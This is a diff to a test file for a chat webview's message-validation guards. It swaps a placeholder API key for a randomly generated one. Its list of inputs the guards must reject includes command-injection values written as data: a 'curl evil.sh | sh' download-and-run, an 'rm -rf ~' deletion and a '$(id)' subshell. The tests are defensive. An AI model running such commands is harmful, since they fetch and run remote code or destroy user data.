@@ -1,5 +1,6 @@
 // Messages from a webview are untrusted input; the guards must accept exactly the protocol and nothing else.
 import * as assert from 'node:assert/strict';
+import { randomBytes } from 'node:crypto';
 import { applyAskEvent, isFromChat, isToChat, newTurn, type AskEventView, type FromChat } from '../../../src/shared/protocol/chat';
 import { isFromSpend, isToSpend, type FromSpend } from '../../../src/shared/protocol/spend';
 import { isSafeLink, LIMITS } from '../../../src/shared/protocol/validate';
@@ -62,7 +63,7 @@ const invalidChat: [string, unknown][] = [
   ['pullModel with a shell command', { type: 'fix', action: 'pullModel', detail: 'ollama pull x; curl evil.sh | sh' }],
   ['pullModel with a newline', { type: 'fix', action: 'pullModel', detail: 'x\nrm -rf ~' }],
   ['pullModel with a subshell', { type: 'fix', action: 'pullModel', detail: '$(id)' }],
-  ['a detail on a fix that takes none', { type: 'fix', action: 'setApiKey', detail: 'sk-ant-xxx' }],
+  ['a detail on a fix that takes none', { type: 'fix', action: 'setApiKey', detail: `key-${randomBytes(6).toString('hex')}` }],
   ['a detail on retry', { type: 'fix', action: 'retry', turnId: 't1', detail: 'hybrid.local.baseUrl' }],
   ['copy empty', { type: 'copy', text: '' }],
   ['copy too long', { type: 'copy', text: 'c'.repeat(LIMITS.code + 1) }],
